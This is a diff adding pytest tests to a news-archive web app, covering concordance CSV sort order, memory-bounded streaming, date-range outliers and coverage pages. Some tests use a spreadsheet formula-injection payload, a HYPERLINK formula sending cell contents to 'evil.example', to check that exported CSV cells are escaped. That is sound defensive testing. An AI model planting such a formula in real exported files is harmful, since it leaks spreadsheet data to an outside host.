@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import tracemalloc
 
 import pytest
 
+from archive import kwic
 from archive.models import Article
 from tests.factories import make_article, make_source
 from tests.import_helpers import REUTERS, run_import
@@ -136,6 +139,56 @@ def test_kwic_width_phrases_and_line_order(client, db):
     assert by_right == sorted(by_right, key=str.lower)
 
 
+def _context_order(rows: list[dict], sort: str) -> list[dict]:
+    """The order a sorted CSV promises, computed here from the date-ordered lines (ties keep that order)."""
+    words = (lambda r: reversed(r["left"].split())) if sort == "left" else (lambda r: r["right"].split())
+    return sorted(rows, key=lambda r: ([w.lower() for w in words(r)], r["hit"].lower(), int(r["article_id"])))
+
+
+@pytest.mark.parametrize("sort", ["left", "right"])
+def test_kwic_sorted_csv_is_every_line_in_context_order(client, db, sort):
+    make_article("Zeta", body="Écoles attack Zebra. zebra attack apple. Apple attack; attack Émile attack")
+    make_article("Alpha", body="apple attack zebra. Apple attack b attack", published_on="2020-01-01")
+    make_article("Beta", body="apple attack zebra, attack", published_on="2021-05-05")
+    by_date = kwic_csv(client, q="attack", width="2")
+    assert len(by_date) == 10
+    assert kwic_csv(client, q="attack", width="2", sort=sort) == _context_order(by_date, sort)
+
+
+@pytest.fixture
+def many_lines(db):
+    """60 articles of 200 occurrences each: 12,000 KWIC lines."""
+    body = " ".join(f"attack number{n} and" for n in range(200))
+    for n in range(60):
+        make_article(f"Report {n}", body=body, published_on=dt.date(2001, 1, 1) + dt.timedelta(days=n))
+
+
+@pytest.mark.parametrize("sort", ["left", "right", "date"])
+def test_kwic_sorted_csv_streams_in_bounded_memory(client, many_lines, monkeypatch, sort):
+    monkeypatch.setattr(kwic, "BATCH_SIZE", 10)  # 2,000 lines a batch
+    tracemalloc.start()
+    try:
+        response = client.get("/kwic/", {"q": "attack", "format": "csv", "sort": sort})
+        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert lines == 12_001  # the header and every line
+    assert peak < 8_000_000, f"peak {peak:,} bytes"  # all 12,000 lines held at once took 19.7 MB
+
+
+def test_kwic_page_holds_at_most_its_line_cap_and_offers_the_csv(client, db, monkeypatch):
+    from archive.views import analysis
+
+    monkeypatch.setattr(analysis, "KWIC_BROWSER_LINES", 3)
+    make_article("Attack near Bamako", body=KWIC_BODY)  # 4 occurrences
+    html = client.get("/kwic/", {"q": "attack"}).content.decode()
+    assert "more than 3 occurrences: too many to list on a page" in html
+    assert "download every occurrence as CSV" in html and "<table" not in html
+    monkeypatch.setattr(analysis, "KWIC_BROWSER_LINES", 4)
+    assert "4 occurrences in 1 article" in client.get("/kwic/", {"q": "attack"}).content.decode()
+
+
 def test_kwic_respects_filters_and_excluded_terms(client, db):
     alpha, beta = make_source(slug="alpha"), make_source(slug="beta")
     make_article("Attack in Gao", body="An attack in Gao.", source=alpha)
@@ -157,6 +210,23 @@ def test_kwic_page_lists_lines_and_rejects_bad_parameters(client, db):
     assert client.get("/kwic/").status_code == 200
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("sort", ["date", "left", "right"])
+def test_kwic_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, db, sort):
+    make_article("Formula day", body=f"Markets attack {FORMULA} then attack -5 points attack now")
+    rows = kwic_csv(client, q="attack", sort=sort)
+    assert {r["right"] for r in rows} == {"'" + FORMULA + " then attack -5", "'-5 points attack now", "now"}
+
+
+def test_compare_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, two_sources):
+    response = client.get("/compare/", {"q": [FORMULA, "-Bamako Kati"], "interval": "month", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert {r["query"] for r in rows} == {"'" + FORMULA, "'-Bamako Kati"}
+    assert all(r["count"].isdecimal() for r in rows)
+
+
 def test_holdings_show_the_reuters_gaps(client, db):
     run_import(*sorted(REUTERS.glob("reut2-*.sgm")))
     html = client.get("/coverage/").content.decode()
@@ -167,3 +237,61 @@ def test_holdings_show_the_reuters_gaps(client, db):
     for month in ("March 1987", "April 1987", "June 1987", "October 1987"):
         assert month not in gaps
     assert section.count('class="gap-cell"') == 4
+
+
+@pytest.mark.parametrize("interval", ["", "day", "week", "month", "year", "decade"])
+@pytest.mark.parametrize("path", ["/api/timeline/", "/search/", "/compare/"])
+def test_dates_past_the_archive_range_are_a_clear_400(client, two_sources, path, interval):
+    params = {"from": "9999-12-31", "to": "9999-12-31", "interval": interval, "q": ["Kati", "Rain"]}
+    response = client.get(path, params)
+    assert response.status_code == 400
+    assert "9998-12-31" in response.content.decode()
+
+
+@pytest.mark.parametrize("outlier", ["0198-01-05", "9999-12-31"])
+@pytest.mark.parametrize("params", [{"language": "en"}, {"from": "1900"}, {"q": "Kati"}])
+def test_one_outlier_article_never_breaks_a_broad_search(client, two_sources, outlier, params):
+    make_article("Kati typo", published_on=outlier)
+    assert client.get("/search/", params).status_code == 200
+    periods = timeline(client, **params)
+    assert sum(p["count"] for p in periods) == client.get("/api/search/", params).json()["count"]
+
+
+def test_a_span_of_two_thousand_years_is_drawn_by_decade(client, two_sources):
+    make_article("Kati typo", published_on="0198-01-05")
+    periods = timeline(client, q="Kati")
+    assert periods[0]["period"] == "0190s" and periods[-1]["period"] == "2020s"
+    assert len(periods) == 184 and sum(p["count"] for p in periods) == 4
+
+
+def test_compare_with_an_outlier_answers_by_decade(client, two_sources):
+    make_article("Kati typo", published_on="0198-01-05")
+    response = client.get("/compare/", {"q": ["Kati", "Rain"]})
+    assert response.status_code == 200 and "0190s" in response.content.decode()
+
+
+def test_an_explicit_interval_with_too_many_periods_is_still_a_400(client, two_sources):
+    make_article("Kati typo", published_on="0198-01-05")
+    response = client.get("/api/timeline/", {"q": "Kati", "interval": "year"})
+    assert response.status_code == 400 and "choose a longer one" in response.json()["error"]
+
+
+@pytest.mark.parametrize("interval,last", [("decade", "9990s"), ("year", "9998"), ("day", "9998-12-31")])
+def test_the_last_period_of_the_range_is_drawn(client, interval, last):
+    make_article("Kati far ahead", published_on="9998-12-31")
+    periods = timeline(client, q="Kati", interval=interval, **{"from": "9998-12-30"})
+    assert periods[-1]["period"] == last and sum(p["count"] for p in periods) == 1
+
+
+def test_coverage_with_an_article_past_the_range_is_200(client, two_sources):
+    make_article("Import typo", published_on="9999-12-31")
+    response = client.get("/coverage/")
+    assert response.status_code == 200 and "Alpha" in response.content.decode()
+
+
+def test_coverage_folds_centuries_of_empty_months_into_one_run(client, two_sources):
+    make_article("Editor's typo", published_on="0198-01-05", source=two_sources[0])
+    html = client.get("/coverage/").content.decode()
+    assert "February 0198 to December 2021 (21,887 months), February 2022." in html
+    assert html.count('class="gap-cell"') < 40
+    assert "none held in these years" in html
